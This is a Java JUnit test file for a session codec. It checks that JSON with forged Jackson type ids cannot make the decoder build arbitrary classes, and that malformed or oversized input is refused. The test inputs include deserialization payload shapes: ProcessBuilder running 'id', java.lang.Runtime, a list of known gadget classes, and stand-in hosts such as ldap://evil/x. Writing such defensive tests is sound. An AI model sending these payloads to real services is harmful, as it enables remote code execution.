package io.sessions4j.core.codec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Attribute JSON: data can never choose a class; only registered types are instantiated. */
class AttributeCodecTest {
  record Cart(List<String> items) {}

  /** A registered type with an untyped field: the place polymorphic typing would bite. */
  record Box(Object payload) {}

  final AttributeCodec codec = new AttributeCodec(Map.of("cart", Cart.class, "box", Box.class));

  SessionDocument decode(String json) {
    return codec.decode(json.getBytes(StandardCharsets.UTF_8));
  }

  @Test
  void forgedJacksonTypeIdsStayPlainData() {
    SessionDocument doc = decode("{\"v\":1,\"a\":{\"x\":[\"java.lang.ProcessBuilder\",{\"command\":[\"id\"]}],"
        + "\"y\":{\"@class\":\"java.lang.ProcessBuilder\"}}}");
    assertThat(codec.fromTree(doc.attributes().get("x"), null)).isInstanceOf(List.class);
    assertThat(codec.fromTree(doc.attributes().get("y"), null)).isInstanceOf(Map.class);
  }

  @Test
  void unknownTypeAliasIsDecodedAsPlainData() {
    SessionDocument doc = decode("{\"v\":1,\"a\":{\"p\":{\"command\":[\"id\"]}},\"t\":{\"p\":\"java.lang.ProcessBuilder\"}}");
    assertThat(codec.fromTree(doc.attributes().get("p"), doc.types().get("p"))).isInstanceOf(Map.class);
  }

  @Test
  void registeredAliasDecodesToItsClass() {
    SessionDocument doc = decode("{\"v\":1,\"a\":{\"c\":{\"items\":[\"apple\"]}},\"t\":{\"c\":\"cart\"}}");
    assertThat(codec.fromTree(doc.attributes().get("c"), "cart")).isEqualTo(new Cart(List.of("apple")));
  }

  @Test
  void convertingToAnUnregisteredClassIsRefused() {
    assertThatThrownBy(() -> codec.convert(Map.of("a", 1), java.util.Date.class))
        .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("allowType");
  }

  @Test
  void malformedDocumentsAreCorruptNotCrashes() {
    for (String bad : List.of("", "null", "[]", "{", "{\"v\":2}", "{\"v\":1,\"a\":[]}", "{\"v\":1,\"e\":\"soon\"}",
        "{\"v\":1,\"t\":{\"x\":\"cart\"}}", "{\"v\":1} trailing", "\u0000\u0001")) {
      assertThatThrownBy(() -> decode(bad)).as(bad).isInstanceOf(CorruptSessionException.class);
    }
  }

  @Test
  void absurdlyDeepNestingIsCorrupt() {
    String deep = "[".repeat(5000) + "]".repeat(5000);
    assertThatThrownBy(() -> decode("{\"v\":1,\"a\":{\"x\":" + deep + "}}")).isInstanceOf(CorruptSessionException.class);
  }

  @Test
  void fourByteUtf8AndControlCharactersRoundTrip() {
    String text = "emoji \uD83D\uDE00 ; semicolon \u00e9 \u0000 \"quote\"";
    SessionDocument doc = new SessionDocument(Map.of("t", codec.toTree(text)), Map.of(), -1, -1, -1, -1, -1);
    SessionDocument back = codec.decode(codec.encode(doc));
    assertThat(codec.fromTree(back.attributes().get("t"), null)).isEqualTo(text);
  }

  // ---- issue 6: forged payloads that try to choose a class

  @Test
  void everyTypeIdPropertySpellingStaysAMap() {
    for (String property : List.of("@class", "@type", "@c", "type", "$type", "@jsonType", "javaClass")) {
      SessionDocument doc = decode("{\"v\":1,\"a\":{\"x\":{\"" + property + "\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}}}");
      assertThat(codec.fromTree(doc.attributes().get("x"), null)).as(property).isInstanceOf(Map.class);
    }
  }

  @Test
  void arrayWrappedJacksonTypingStaysAList() {
    SessionDocument doc = decode("{\"v\":1,\"a\":{\"m\":[\"java.util.HashMap\",{}],"
        + "\"n\":[\"[Ljava.lang.Object;\",[[\"java.net.URL\",\"http://evil.example/\"]]]}}");
    assertThat(codec.fromTree(doc.attributes().get("m"), null)).isEqualTo(List.of("java.util.HashMap", Map.of()));
    assertThat(codec.fromTree(doc.attributes().get("n"), null)).isInstanceOf(List.class);
  }

  @Test
  void gadgetClassNamesAsValuesOrAliasesAreNeverInstantiated() {
    List<String> gadgets = List.of("com.sun.rowset.JdbcRowSetImpl", "org.springframework.context.support.FileSystemXmlApplicationContext",
        "ch.qos.logback.core.db.DriverManagerConnectionSource", "org.apache.xalan.xsltc.trax.TemplatesImpl",
        "com.zaxxer.hikari.HikariConfig", "javax.management.BadAttributeValueExpException", "java.lang.Runtime",
        AttributeCodecTest.Cart.class.getName());
    for (String gadget : gadgets) {
      SessionDocument doc = decode("{\"v\":1,\"a\":{\"g\":{\"@class\":\"" + gadget + "\",\"dataSourceName\":\"ldap://evil/x\","
          + "\"autoCommit\":true,\"items\":[\"apple\"]}},\"t\":{\"g\":\"" + gadget + "\"}}");
      assertThat(codec.fromTree(doc.attributes().get("g"), doc.types().get("g"))).as(gadget).isInstanceOf(Map.class);
    }
  }

  @Test
  void registeredTypesDoNotOpenPolymorphismInTheirFields() {
    SessionDocument doc = decode("{\"v\":1,\"a\":{\"b\":{\"payload\":[\"java.lang.ProcessBuilder\",{\"command\":[\"id\"]}]},"
        + "\"c\":{\"payload\":{\"@class\":\"java.lang.ProcessBuilder\"}}},\"t\":{\"b\":\"box\",\"c\":\"box\"}}");
    Object b = codec.fromTree(doc.attributes().get("b"), "box");
    assertThat(b).isInstanceOf(Box.class);
    assertThat(((Box) b).payload()).isInstanceOf(List.class);
    assertThat(((Box) codec.fromTree(doc.attributes().get("c"), "box")).payload()).isInstanceOf(Map.class);
  }

  @Test
  void typeIdsInsideARegisteredTypeAreIgnoredOrCorrupt() {
    SessionDocument doc = decode("{\"v\":1,\"a\":{\"c\":{\"@class\":\"java.lang.ProcessBuilder\",\"items\":[\"apple\"]},"
        + "\"s\":\"not a cart\"},\"t\":{\"c\":\"cart\",\"s\":\"cart\"}}");
    try {
      assertThat(codec.fromTree(doc.attributes().get("c"), "cart")).isEqualTo(new Cart(List.of("apple")));
    } catch (CorruptSessionException refused) {
      // refusing an unknown property is as good as ignoring it
    }
    assertThatThrownBy(() -> codec.fromTree(doc.attributes().get("s"), "cart")).isInstanceOf(CorruptSessionException.class);
  }

  @Test
  void deeplyNestedObjectsAndMixedNestingAreCorrupt() {
    String objects = "{\"a\":".repeat(5000) + "1" + "}".repeat(5000);
    String mixed = "[{\"a\":".repeat(2500) + "1" + "}]".repeat(2500);
    for (String deep : List.of(objects, mixed)) {
      assertThatThrownBy(() -> decode("{\"v\":1,\"a\":{\"x\":" + deep + "}}")).isInstanceOf(CorruptSessionException.class);
    }
  }

  @Test
  void hugeNumbersAreCorruptOrPlainNumbersAndNeverSlow() {
    org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(5), () -> {
      for (String number : List.of("9".repeat(5000), "1e999999999", "-1e-999999999", "1" + "0".repeat(900),
          "123456789.123456789e123456789")) {
        Object value;
        try {
          value = codec.fromTree(decode("{\"v\":1,\"a\":{\"n\":" + number + "}}").attributes().get("n"), null);
        } catch (CorruptSessionException refused) {
          continue;
        }
        assertThat(value).as(number.length() > 40 ? number.substring(0, 40) : number).isInstanceOf(Number.class);
      }
      for (String field : List.of("m", "c", "l", "e", "k")) {
        for (String number : List.of("1e30", "123456789012345678901234567890", "9".repeat(5000), "1.5", "\"1\"")) {
          assertThatThrownBy(() -> decode("{\"v\":1,\"a\":{},\"" + field + "\":" + number + "}"))
              .as(field + "=" + (number.length() > 40 ? number.substring(0, 40) : number))
              .isInstanceOf(CorruptSessionException.class);
        }
      }
    });
  }

  @Test
  void scalarTreesAreTheNodesJacksonWouldMake() {
    com.fasterxml.jackson.databind.ObjectMapper plain = new com.fasterxml.jackson.databind.ObjectMapper();
    for (Object value : new Object[] {"", "text é \u2028", 0, -7, Integer.MAX_VALUE, 5L,
        Long.MIN_VALUE, 1L << 40, true, false, 1.5d, 2.5f, (short) 3, (byte) 4,
        new java.math.BigDecimal("1.10"), java.math.BigInteger.TEN}) {
      com.fasterxml.jackson.databind.JsonNode expected = plain.valueToTree(value);
      com.fasterxml.jackson.databind.JsonNode actual = codec.toTree(value);
      assertThat(actual).as("tree of %s (%s)", value, value.getClass().getSimpleName())
          .isEqualTo(expected);
      assertThat(actual.getClass()).as("node class for %s", value.getClass().getSimpleName())
          .isEqualTo(expected.getClass());
    }
  }

  @Test
  void streamedEncodingIsByteIdenticalToWritingTheTree() {
    List<Map<String, Object>> attributeSets = List.of(
        Map.of(),
        Map.of("user", "alice@example.com"),
        new java.util.LinkedHashMap<>(Map.of("n", 421_337L, "i", 7, "b", true, "f", false)),
        Map.of("s", "quote \" backslash \\ control \u0001 \u2028 é 😀 </script>"),
        Map.of("d", 1.5d, "fl", 2.5f, "big", new java.math.BigDecimal("1.10"),
            "bi", new java.math.BigInteger("123456789012345678901234567890")),
        Map.of("list", List.of(1, "two", List.of(3.0, Map.of("x", false))),
            "map", Map.of("@class", "java.lang.Runtime", "k", List.of())),
        Map.of("cart", new Cart(List.of("a", "b")), "box", new Box(Map.of("p", 1))),
        Map.of("min", Long.MIN_VALUE, "max", Long.MAX_VALUE, "imin", Integer.MIN_VALUE));
    for (Map<String, Object> attrs : attributeSets) {
      Map<String, com.fasterxml.jackson.databind.JsonNode> trees = new java.util.LinkedHashMap<>();
      Map<String, String> types = new java.util.LinkedHashMap<>();
      attrs.forEach((k, v) -> {
        trees.put(k, codec.toTree(v));
        if (codec.aliasOf(v.getClass()) != null) {
          types.put(k, codec.aliasOf(v.getClass()));
        }
      });
      trees.put("null", null);
      trees.put("nullNode", com.fasterxml.jackson.databind.node.NullNode.instance);
      for (long meta : new long[] {SessionDocument.UNSET, 0, 1_764_800_000_000L, Long.MAX_VALUE}) {
        SessionDocument doc = new SessionDocument(trees, types, meta, meta, 5, meta, meta);
        assertThat(new String(codec.encode(doc), StandardCharsets.UTF_8))
            .isEqualTo(new String(codec.encodeTree(doc), StandardCharsets.UTF_8));
        assertThat(codec.encode(doc)).isEqualTo(codec.encodeTree(doc));
        assertSameDecoding(codec.encode(doc));
      }
    }
  }

  @Test
  void streamedDecodingAcceptsAndRefusesExactlyWhatTheTreeDecodingDoes() {
    String[] documents = {
        "{\"v\":1,\"a\":{\"user\":\"alice\",\"n\":421337,\"l\":9999999999,\"b\":true,\"z\":null}}",
        "{\"v\":1}", "{\"v\":1,\"a\":{}}", "{\"a\":{},\"v\":1}", "{\"v\":1,\"a\":{},\"t\":{}}",
        " {\"v\" : 1 , \"a\" : { \"x\" : [ 1 , 2 ] } } ", "{\"v\":1}\n", "{\"v\":1} {}", "{\"v\":1}]",
        "{\"v\":1,\"a\":{\"c\":{\"items\":[\"x\"]}},\"t\":{\"c\":\"cart\"}}",
        "{\"v\":1,\"t\":{\"c\":\"cart\"},\"a\":{\"c\":{\"items\":[\"x\"]}}}",
        "{\"v\":1,\"t\":{\"c\":\"cart\"},\"a\":{}}", "{\"v\":1,\"t\":{\"c\":\"cart\"}}",
        "{\"v\":1,\"a\":{\"c\":1},\"t\":{\"c\":1}}", "{\"v\":1,\"a\":{\"c\":1},\"t\":{\"c\":null}}",
        "{\"v\":1,\"a\":{\"c\":1},\"t\":{\"c\":\"x\",\"c\":\"y\"}}", "{\"v\":1,\"a\":{\"c\":1},\"t\":[]}",
        "{\"v\":1,\"a\":{\"c\":1},\"t\":null}", "{\"v\":1,\"a\":null}", "{\"v\":1,\"a\":[]}",
        "{\"v\":1,\"a\":\"x\"}", "{\"v\":1,\"a\":{\"x\":1,\"x\":2}}", "{\"v\":1,\"a\":{\"x\":1},\"a\":{\"y\":2}}",
        "{\"v\":1,\"v\":1}", "{\"v\":2}", "{\"v\":\"1\"}", "{\"v\":1.0}", "{\"v\":1.9}", "{\"v\":true}",
        "{\"v\":null}", "{\"v\":10000000000}", "{\"v\":4294967297}", "{\"v\":[1]}", "{\"v\":{}}", "{}",
        "{\"v\":1,\"x\":\"unknown\"}", "{\"v\":1,\"x\":{\"deep\":[1,{\"a\":2}]}}", "{\"V\":1}",
        "{\"v\":1,\"m\":-1,\"c\":0,\"l\":1764800000000,\"e\":9223372036854775807,\"k\":-9223372036854775808}",
        "{\"v\":1,\"m\":9223372036854775808}", "{\"v\":1,\"m\":1.0}", "{\"v\":1,\"m\":1e3}",
        "{\"v\":1,\"m\":\"5\"}", "{\"v\":1,\"m\":null}", "{\"v\":1,\"m\":true}", "{\"v\":1,\"m\":[]}",
        "{\"v\":1,\"m\":5,\"m\":6}", "{\"v\":1,\"c\":-0}", "{\"v\":1,\"k\":18446744073709551616}",
        "{\"v\":1,\"a\":{\"d\":1.5,\"e\":1e400,\"f\":-0.0,\"g\":12345678901234567890123,\"h\":-9223372036854775809}}",
        "{\"v\":1,\"a\":{\"i\":2147483647,\"j\":2147483648,\"k\":-2147483648,\"l\":-2147483649}}",
        "{\"v\":1,\"a\":{\"s\":\"\",\"u\":\"\\u00e9\\ud83d\\ude00\",\"bad\":\"\\ud800\"}}",
        "{\"v\":1,\"a\":{\"@class\":\"java.lang.Runtime\",\"x\":[\"java.util.HashMap\",{}]}}",
        "", " ", "null", "1", "\"v\"", "[]", "[{\"v\":1}]", "{", "{\"v\":1", "{\"v\":1,", "{\"v\":1,}",
        "{\"v\":1,\"a\":{\"x\":}}", "{\"v\":1,\"a\":{\"x\":1}", "{\"v\":1 \"a\":{}}", "{'v':1}",
        "{v:1}", "{\"v\":01}", "{\"v\":1,\"a\":{\"x\":NaN}}", "{\"v\":1,\"a\":{\"x\":\"\u0001\"}}",
        "{\"v\":1,\"a\":{\"x\":" + "[".repeat(70) + "]".repeat(70) + "}}",
        "{\"v\":1,\"a\":{\"x\":" + "[".repeat(62) + "]".repeat(62) + "}}",
        "{\"v\":1,\"a\":{\"x\":1" + "0".repeat(2000) + "}}",
        "{\"v\":1,\"x\":1" + "0".repeat(2000) + "}",
        "{\"v\":1,\"a\":{\"x\":1}}/*c*/", "{\"v\":1,\"a\":{\"x\":1}}//c",
    };
    for (String document : documents) {
      assertSameDecoding(document.getBytes(StandardCharsets.UTF_8));
    }
    assertSameDecoding(new byte[] {'{', '"', 'v', '"', ':', '1', ',', '"', 'a', '"', ':', '{', '"',
        'x', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}', '}'});
  }

  @Test
  void streamedDecodingMatchesTheTreeDecodingOnRandomMutations() {
    java.util.Random random = new java.util.Random(2026_12_03);
    byte[] valid = ("{\"v\":1,\"a\":{\"user\":\"alice@example.com\",\"userId\":421337,"
        + "\"roles\":\"admin,editor\",\"c\":{\"items\":[\"x\",\"y\"]},\"ok\":true,\"d\":2.5},"
        + "\"t\":{\"c\":\"cart\"},\"m\":1800000,\"c\":1764800000000,\"l\":1764800000001,"
        + "\"e\":1764801800000,\"k\":-1}").getBytes(StandardCharsets.UTF_8);
    assertSameDecoding(valid);
    byte[] alphabet = "{}[]\":,1-.e0 vatmclekx\\nul".getBytes(StandardCharsets.UTF_8);
    for (int n = 0; n < 30_000; n++) {
      byte[] mutant = valid.clone();
      for (int edits = 1 + random.nextInt(3); edits > 0; edits--) {
        int at = random.nextInt(mutant.length);
        byte b = random.nextInt(4) == 0 ? (byte) random.nextInt(256) : alphabet[random.nextInt(alphabet.length)];
        switch (random.nextInt(3)) {
          case 0 -> mutant[at] = b;
          case 1 -> {
            byte[] shorter = new byte[mutant.length - 1];
            System.arraycopy(mutant, 0, shorter, 0, at);
            System.arraycopy(mutant, at + 1, shorter, at, mutant.length - at - 1);
            mutant = shorter;
          }
          default -> {
            byte[] longer = new byte[mutant.length + 1];
            System.arraycopy(mutant, 0, longer, 0, at);
            longer[at] = b;
            System.arraycopy(mutant, at, longer, at + 1, mutant.length - at);
            mutant = longer;
          }
        }
      }
      assertSameDecoding(mutant);
    }
  }

  /** decode and the reference decodeTree agree: both refuse, or equal documents of equal node classes. */
  private void assertSameDecoding(byte[] bytes) {
    String shown = new String(bytes, StandardCharsets.UTF_8);
    SessionDocument expected;
    try {
      expected = codec.decodeTree(bytes);
    } catch (CorruptSessionException e) {
      assertThatThrownBy(() -> codec.decode(bytes)).as("%.200s", shown)
          .isInstanceOf(CorruptSessionException.class).hasMessage(e.getMessage());
      return;
    }
    SessionDocument actual = codec.decode(bytes);
    assertThat(actual).as("%.200s", shown).isEqualTo(expected);
    assertThat(List.copyOf(actual.attributes().keySet())).as(shown)
        .isEqualTo(List.copyOf(expected.attributes().keySet()));
    assertThat(List.copyOf(actual.types().keySet())).as(shown)
        .isEqualTo(List.copyOf(expected.types().keySet()));
    expected.attributes().forEach((name, node) -> assertThat(actual.attributes().get(name).getClass())
        .as("%s in %.200s", name, shown).isEqualTo(node.getClass()));
  }
}
